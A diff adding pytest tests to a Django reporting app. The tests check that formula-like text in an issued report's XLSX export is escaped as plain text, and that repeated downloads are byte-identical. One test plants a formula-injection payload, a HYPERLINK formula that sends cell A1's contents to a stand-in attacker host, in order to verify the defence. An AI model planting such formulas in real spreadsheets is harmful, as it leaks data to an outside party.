@@ -2,14 +2,18 @@
 lead's copy holds their own cluster only, with no money."""
 
 import datetime
+import hashlib
+import io
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
+from openpyxl import load_workbook
 
 import reports.gather as gather
 from clusters.models import ProgressUpdate
 from programme.models import Milestone
-from reports import render
+from reports import render, services
 from tests.conftest import client_for
 
 from .helpers import html_rows, main_content, pdf_text, xlsx_rows, xlsx_text
@@ -152,3 +156,35 @@ def test_a_chart_with_no_data_shows_an_empty_state(contract, north_east, pm, bui
     chart = next(b["chart"] for b in ne["blocks"] if b["chart"])
     assert "No data for this period" in chart["svg"]
     assert client_for(pm).get(reverse("reports:pdf", args=[report.pk])).status_code == 200
+
+
+def test_formula_like_text_in_an_issued_report_is_text_in_its_xlsx(pm, build, programme_data):
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    Milestone.objects.filter(title="Programme go live").update(title=hostile)
+    report = build(user=pm)
+    summary = "+44 7700 900000 rang the hub\n@SUM(A1:A9)\n-2 hubs live"
+    services.save_summary(report_id=report.pk, summary=summary, user=pm)
+    issued = services.issue_report(report_id=report.pk, user=pm)
+
+    content = client_for(pm).get(reverse("reports:xlsx", args=[issued.pk])).content
+
+    book = load_workbook(io.BytesIO(content))
+    cells = [c for s in book.worksheets for r in s.iter_rows() for c in r if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no live formula
+    texts = {c.value for c in cells}
+    # shown as the text it is, behind the apostrophe a spreadsheet reads as "this is text"
+    assert {"'+44 7700 900000 rang the hub", "'@SUM(A1:A9)", "'-2 hubs live"} <= texts
+    assert any(str(t).startswith("'" + hostile) for t in texts)
+
+
+def test_every_download_of_an_issued_xlsx_is_the_same_file(pm, dfe, issued, time_machine):
+    url = reverse("reports:xlsx", args=[issued.pk])
+    first = client_for(pm).get(url).content
+    time_machine.move_to(timezone.now() + datetime.timedelta(days=3, seconds=7))
+    second = client_for(dfe).get(url).content
+
+    assert hashlib.sha256(first).hexdigest() == hashlib.sha256(second).hexdigest()
+    book = load_workbook(io.BytesIO(first))
+    assert book.properties.modified == issued.issued_at.astimezone(datetime.UTC).replace(
+        tzinfo=None, microsecond=0
+    )
